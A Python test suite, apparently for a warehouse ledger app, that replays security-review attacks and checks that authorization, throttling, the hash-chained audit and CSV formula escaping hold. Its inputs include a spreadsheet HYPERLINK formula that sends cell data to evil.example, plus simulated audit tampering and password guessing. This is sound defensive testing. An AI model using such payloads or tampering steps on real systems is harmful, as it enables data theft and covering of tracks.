"""Issue 18: every attack of the security review, reproduced and refused.

Authorization on the server side (made-up users, case tricks, users disabled after
look-up), thresholds that cannot be split, sign-in throttling and lockout, the
tamper-evident audit (hash chain, 0600 files, `opsledger audit verify`), CSV formula
escaping, notes, sessions, settings and reserved provenance fields at ingest."""

from __future__ import annotations

import json
import shutil
import sqlite3
import stat
from pathlib import Path

import duckdb
import polars as pl
import pytest
from typer.testing import CliRunner

from opsledger import writeback as wb
from opsledger.app.components.tables import _csv
from opsledger.cli import app as cli
from opsledger.core.readonly import release
from opsledger.core.settings import SettingsError, load_settings
from opsledger.writeback import access, store
from opsledger.writeback.chain import verify
from opsledger.writeback.submissions import get_submission, related_submissions
from tests.ingest.ingest_helpers import (
    STOCK_HEADER,
    csv_text,
    ingest,
    quarantine,
    query,
    stock,
    write,
    write_master,
)
from tests.opsledger.test_writeback import make_home


@pytest.fixture
def home(tmp_path: Path) -> Path:
    h = make_home(tmp_path / "home")
    release()
    con = duckdb.connect(str(h / "warehouse.duckdb"))  # a SKU at 48.93: 10 units = 489.30
    con.execute("alter table marts.dim_sku alter unit_cost type double")
    con.execute("insert into marts.dim_sku values ('SKU-W', 'standard', 48.93)")
    con.execute("insert into marts.fct_stock_on_hand values ('SKU-W', 'DC1', 'available', 100)")
    con.close()
    wb.users_add(h, "lead", "warehouse_lead", "lead-password")
    wb.users_add(h, "fin", "finance_approver", "fin-password")
    wb.users_add(h, "admin1", "admin", "admin-password")
    return h


def adjust(home: Path, actor, qty: int, sku: str = "SKU-A", note: str = "", **kw):
    args = {"node_id": "DC1", "state": "available", "reason_code": "shrink"} | kw
    return wb.submit_adjustment(
        home, actor, wb.open_form(home), sku=sku, quantity=qty, note=note, **args
    )


# -- 2. authorization on the server side ----------------------------------------------


def test_a_made_up_finance_approver_cannot_approve(home: Path) -> None:
    big = adjust(home, "lead", -60)  # 600 > 500
    assert big.needs_approval
    with pytest.raises(wb.PermissionDenied, match="Unknown user 'eve'"):
        wb.approve(home, wb.User("eve", "finance_approver"), big.submission_id, "ok")
    with pytest.raises(wb.PermissionDenied, match="warehouse_lead"):  # the store's role wins
        wb.approve(home, wb.User("lead", "finance_approver"), big.submission_id, "ok")
    with pytest.raises(wb.PermissionDenied, match="warehouse_lead"):  # a username alone
        wb.approve(home, "lead", big.submission_id)
    with pytest.raises(wb.PermissionDenied, match="Unknown user 'nobody'"):
        wb.approve(home, wb.User("nobody", "admin", disabled=False), big.submission_id)
    assert wb.approve(home, "fin", big.submission_id, "ok") == "approved"


def test_upper_case_is_the_same_user_for_the_self_check(home: Path) -> None:
    big = adjust(home, "admin1", -60)
    for name in ("ADMIN1", " Admin1 ", wb.User("ADMIN1", "admin")):
        with pytest.raises(wb.PermissionDenied, match="your own"):
            wb.approve(home, name, big.submission_id, "mine")
    with pytest.raises(wb.WritebackError, match="already exists"):
        wb.users_add(home, "ADMIN1", "planner", "password-x")
    assert wb.get_user(home, "ADMIN1") == wb.User("admin1", "admin")


def test_a_user_looked_up_before_disable_cannot_act(home: Path) -> None:
    lead = wb.get_user(home, "lead")
    fin = wb.get_user(home, "fin")
    big = adjust(home, lead, -60)
    wb.users_disable(home, "LEAD")
    wb.users_disable(home, "fin")
    with pytest.raises(wb.PermissionDenied, match="disabled"):
        adjust(home, lead, -1)
    with pytest.raises(wb.PermissionDenied, match="disabled"):
        wb.approve(home, fin, big.submission_id, "ok")


def test_session_tokens_expire_and_end(home: Path) -> None:
    result = access.sign_in(home, "Lead", "lead-password", "10.0.0.1")
    assert result.user == wb.User("lead", "warehouse_lead") and result.token
    assert access.session_user(home, result.token) == result.user
    assert adjust(home, result.token, -1).submitted_by == "lead"  # a token is an actor
    access.end_session(home, result.token)
    assert access.session_user(home, result.token) is None
    with pytest.raises(wb.PermissionDenied, match="expired"):
        adjust(home, result.token, -1)
    (home / "settings.toml").write_text("[auth]\nsession_lifetime_minutes = 0.0001\n")
    short = access.open_session(home, "lead")
    import time

    time.sleep(0.05)
    assert access.session_user(home, short) is None
    with store.connect(home) as con:  # only the token's digest is stored
        stored = {r[0] for r in con.execute("select token_sha from sessions")}
    assert result.token not in stored and short not in stored


# -- 3. thresholds that cannot be split --------------------------------------------------


def test_five_write_offs_under_the_threshold_need_approval(home: Path) -> None:
    """Five write-offs of 10 x 48.93 = 489.30 (2,446.50 together) under a 500 threshold:
    the first is below it; from the second on, the submitter's total for SKU-W at DC1
    within 24 h is 978.60, 1,467.90, ... > 500, so each needs a finance approver."""
    subs = [adjust(home, "lead", -10, sku="SKU-W", reason_code="damage") for _ in range(5)]
    assert [s.value for s in subs] == [489.30] * 5
    assert [s.needs_approval for s in subs] == [False, True, True, True, True]
    related = related_submissions(home, subs[4].submission_id)
    assert [r["submission_id"] for r in related] == [s.submission_id for s in subs[:4]]
    assert round(sum(r["value"] for r in related) + subs[4].value, 2) == 2446.50
    # another node, another SKU or another submitter starts its own total
    assert not adjust(home, "admin1", -10, sku="SKU-W", reason_code="damage").needs_approval
    assert not adjust(home, "lead", -40, sku="SKU-A").needs_approval  # 400 on SKU-A


def test_a_rejected_submission_does_not_count(home: Path) -> None:
    first = adjust(home, "lead", -10, sku="SKU-W")
    second = adjust(home, "lead", -10, sku="SKU-W")
    assert second.needs_approval
    wb.reject(home, "fin", second.submission_id, "duplicate")
    third = adjust(home, "lead", -1, sku="SKU-W")  # 489.30 + 48.93 = 538.23 > 500
    assert third.needs_approval and not first.needs_approval
    fourth_home_total = related_submissions(home, third.submission_id)
    assert [r["submission_id"] for r in fourth_home_total] == [first.submission_id]


# -- 4. throttling -----------------------------------------------------------------------


def test_thirty_wrong_passwords_lock_the_account_even_for_the_right_one(home: Path) -> None:
    results = [access.sign_in(home, "fin", f"guess-{i}", "10.0.0.9") for i in range(30)]
    assert all(r.user is None for r in results)
    assert results[3].locked_until is None and results[4].locked_until  # the 5th locks
    right = access.sign_in(home, "fin", "fin-password", "10.0.0.9")
    assert right.user is None and right.token is None
    assert "locked until" in right.message and right.locked_until
    locks = [e for e in wb.audit_log(home) if e["entry"] == "signin_locked"]
    assert len(locks) == 1 and "user fin locked until" in locks[0]["what"]
    # another client's right password is refused too: the account is locked
    assert access.sign_in(home, "FIN", "fin-password", "10.0.0.10").user is None
    # once the lock is over, the right password works again
    with store.connect(home) as con:
        con.execute("update signin_locks set until = '2000-01-01T00:00:00Z'")
    assert access.sign_in(home, "fin", "fin-password", "10.0.0.9").user is not None


def test_a_client_guessing_many_usernames_is_locked(home: Path) -> None:
    for i in range(20):
        access.sign_in(home, f"user{i}", "nope-nope", "10.6.6.6")
    locked = access.sign_in(home, "lead", "lead-password", "10.6.6.6")
    assert locked.user is None and "locked until" in locked.message
    assert access.sign_in(home, "lead", "lead-password", "10.0.0.1").user is not None
    assert any(e["actor"] == "10.6.6.6" for e in wb.audit_log(home))


# -- 5. tamper-evident audit ------------------------------------------------------------


def _tamper_copy(home: Path, tmp_path: Path) -> Path:
    copy = tmp_path / "copy"
    shutil.copytree(home, copy)
    con = sqlite3.connect(str(copy / "writeback.sqlite"))
    con.execute("drop trigger inbox_no_update")
    con.execute("drop trigger inbox_no_delete")
    con.commit()
    con.close()
    return copy


def test_audit_verify_names_a_record_changed_with_the_triggers_dropped(
    home: Path, tmp_path: Path
) -> None:
    adjust(home, "lead", -1, note="first")
    sub = adjust(home, "lead", -2, note="second")
    adjust(home, "lead", -3, note="third")
    assert verify(home).ok
    ok = CliRunner().invoke(cli, ["audit", "verify", "--home", str(home), "--json"])
    assert ok.exit_code == 0 and json.loads(ok.output)["ok"]

    copy = _tamper_copy(home, tmp_path)
    con = sqlite3.connect(str(copy / "writeback.sqlite"))
    seq = con.execute(
        "select seq from inbox where submission_id = ? and entry = 'submitted'",
        [sub.submission_id],
    ).fetchone()[0]
    con.execute("update inbox set comment = 'rewritten', value = 0 where seq = ?", [seq])
    con.commit()
    con.close()
    out = CliRunner().invoke(cli, ["audit", "verify", "--home", str(copy), "--json"])
    assert out.exit_code == 1
    result = json.loads(out.output)
    assert result["first_broken"] == f"inbox seq {seq} (submitted {sub.submission_id})"
    text = CliRunner().invoke(cli, ["audit", "verify", "--home", str(copy)])
    assert text.exit_code == 1 and f"inbox seq {seq}" in text.output


def test_audit_verify_detects_a_deleted_entry_and_a_rehashed_one(
    home: Path, tmp_path: Path
) -> None:
    for q in (-1, -2, -3):
        adjust(home, "lead", q)
    copy = _tamper_copy(home, tmp_path)
    con = sqlite3.connect(str(copy / "writeback.sqlite"))
    last = con.execute("select max(seq) from inbox").fetchone()[0]
    con.execute("delete from inbox where seq = ?", [last - 1])
    con.commit()
    con.close()
    assert verify(copy).first_broken.startswith(f"inbox seq {last} ")
    # recomputing a plain SHA-256 without the key does not help the attacker
    copy2 = _tamper_copy(home, tmp_path / "2")
    con = sqlite3.connect(str(copy2 / "writeback.sqlite"))
    con.row_factory = sqlite3.Row
    row = dict(con.execute("select * from inbox where seq = ?", [last]).fetchone())
    row["comment"] = "forged"
    forged = store.digest(b"guessed key", row["prev_hash"], {c: row[c] for c in store.CHAINED})
    con.execute("update inbox set comment = 'forged', hash = ? where seq = ?", [forged, last])
    con.commit()
    con.close()
    assert verify(copy2).first_broken.startswith(f"inbox seq {last} ")


def test_audit_verify_detects_a_changed_user_record(home: Path, tmp_path: Path) -> None:
    copy = tmp_path / "copy"
    shutil.copytree(home, copy)
    con = sqlite3.connect(str(copy / "writeback.sqlite"))
    con.execute("update users set role = 'admin' where username = 'lead'")  # no trigger
    con.commit()
    con.close()
    result = verify(copy)
    assert not result.ok and result.first_broken == "users record 'lead'"


def test_store_and_key_are_private(home: Path) -> None:
    for name in ("writeback.sqlite", ".audit.key"):
        mode = stat.S_IMODE((home / name).stat().st_mode)
        assert mode == 0o600, (name, oct(mode))


def test_a_store_written_before_the_chain_is_chained_on_first_use(tmp_path: Path) -> None:
    home = make_home(tmp_path / "old")
    con = sqlite3.connect(str(home / "writeback.sqlite"))
    con.executescript(  # the schema and rows of the previous version
        "create table users (username text primary key, role text not null, password_hash "
        "text not null, disabled integer not null default 0, created_at text not null);"
        "create table inbox (seq integer primary key autoincrement, submission_id text not "
        "null, entry text not null check (entry in ('submitted','approved','rejected',"
        "'exported','user_added','user_disabled')), at text not null, actor text not null, "
        "role text not null, kind text, payload text, value real, needs_approval integer, "
        "build_id text, comment text, event_ids text, unique (submission_id, entry));"
        "insert into users values ('old', 'planner', 'x', 0, '2025-01-01T00:00:00Z');"
        "insert into inbox (submission_id, entry, at, actor, role, comment) values "
        "('user:old', 'user_added', '2025-01-01T00:00:00Z', 'cli', 'admin', 'role planner');"
    )
    con.close()
    wb.users_add(home, "new", "planner", "password-1")
    result = verify(home)
    assert result.ok, result.problems
    assert result.entries == 2 and result.users == 2


# -- 5. CSV exports escape formulas -------------------------------------------------------


def test_audit_csv_escapes_formula_cells(home: Path) -> None:
    adjust(home, "lead", -1, note='=HYPERLINK("http://evil.example/?"&A1,"click")')
    entries = wb.audit_log(home)
    frame = pl.DataFrame(entries, strict=False)
    text = _csv(frame).decode()
    assert "'=HYPERLINK(" in text
    assert ",=HYPERLINK" not in text and '"=HYPERLINK' not in text
    for lead in ("+1+2", "-1+2", "@SUM(A1)", "\tx"):
        assert f"'{lead}" in _csv(pl.DataFrame({"c": [lead]})).decode()


# -- 8. notes --------------------------------------------------------------------------


def test_notes_any_unicode_is_stored_or_refused_with_a_message(home: Path) -> None:
    kept = adjust(home, "lead", -1, note="Ünïcödé 検品 📦 ok")
    assert get_submission(home, kept.submission_id).note == "Ünïcödé 検品 📦 ok"
    before = len(wb.audit_log(home))
    with pytest.raises(wb.WritebackError, match="not valid Unicode"):
        adjust(home, "lead", -1, note="bad \ud800 surrogate")
    with pytest.raises(wb.WritebackError, match="1,001 characters; the limit is 1,000"):
        adjust(home, "lead", -1, note="x" * 1001)
    assert len(wb.audit_log(home)) == before  # nothing recorded
    assert len(adjust(home, "lead", -1, note="y" * 1000).note) == 1000


# -- 1. settings: session lifetime, OIDC -----------------------------------------------


def test_settings_configure_oidc_for_st_login(tmp_path: Path) -> None:
    from opsledger.app.serve import streamlit_command, write_secrets

    assert load_settings(tmp_path).provider == "local"
    assert write_secrets(tmp_path) is None
    (tmp_path / "settings.toml").write_text(
        '[auth]\nprovider = "oidc"\nsession_lifetime_minutes = 60\n'
        "[auth.oidc]\n"
        'redirect_uri = "https://ops.example.com/oauth2callback"\n'
        'cookie_secret = "s3cret"\nclient_id = "opsledger"\nclient_secret = "x"\n'
        'server_metadata_url = "https://idp.example.com/.well-known/openid-configuration"\n'
        'username_claim = "email"\n'
    )
    settings = load_settings(tmp_path)
    assert settings.provider == "oidc" and settings.session_lifetime_minutes == 60
    assert settings.username_claim == "email"
    secrets = write_secrets(tmp_path)
    assert secrets is not None and stat.S_IMODE(secrets.stat().st_mode) == 0o600
    import tomllib

    auth = tomllib.loads(secrets.read_text())["auth"]
    assert auth["client_id"] == "opsledger" and "username_claim" not in auth
    assert auth["server_metadata_url"].startswith("https://idp.example.com/")
    command = streamlit_command(8501, "0.0.0.0", secrets)
    assert command[command.index("--secrets.files") + 1] == str(secrets)
    assert command[command.index("--server.address") + 1] == "0.0.0.0"
    (tmp_path / "settings.toml").write_text('[auth]\nprovider = "oidc"\n')
    with pytest.raises(SettingsError, match="needs redirect_uri"):
        load_settings(tmp_path)


def test_serve_has_a_host_option() -> None:
    out = CliRunner().invoke(cli, ["serve", "--help"])
    assert "--host" in out.output


# -- 7. provenance fields are reserved ----------------------------------------------------

HEADER = [*STOCK_HEADER, "submission_id", "submitted_by", "approved_by"]


def test_provenance_fields_only_from_the_writeback_folder(tmp_path: Path) -> None:
    write_master(tmp_path)
    faked = stock("fake1", "adjustment", from_state="available", to_state="adjustment",
                  reason_code="shrink", submitted_by="fin", approved_by="fin")  # fmt: skip
    plain = stock("plain1", "adjustment", from_state="available", to_state="adjustment",
                  reason_code="shrink")  # fmt: skip
    write(tmp_path, "stock/feed.csv", csv_text(HEADER, [faked, plain]))
    real = stock("wb-1-1", "adjustment", from_state="available", to_state="adjustment",
                 reason_code="shrink", submission_id="wb-1", submitted_by="lead")  # fmt: skip
    write(tmp_path, "stock/_writeback/writeback-wb-1.csv", csv_text(HEADER, [real]))
    summary = ingest(tmp_path)
    assert (
        summary.to_dict()["rows_read"]
        == summary.to_dict()["loaded"]
        + summary.to_dict()["duplicates"]
        + summary.to_dict()["quarantined"]
    )
    held = [q for q in quarantine(tmp_path) if q[0].startswith("stock/")]
    assert [(f, line, reason, detail) for f, line, reason, detail, _ in held] == [
        ("stock/feed.csv", 2, "reserved_field", "submitted_by, approved_by")
    ]
    loaded = dict(query(tmp_path, "select event_id, submitted_by from raw.stock_events"))
    assert loaded == {"plain1": None, "wb-1-1": "lead"}
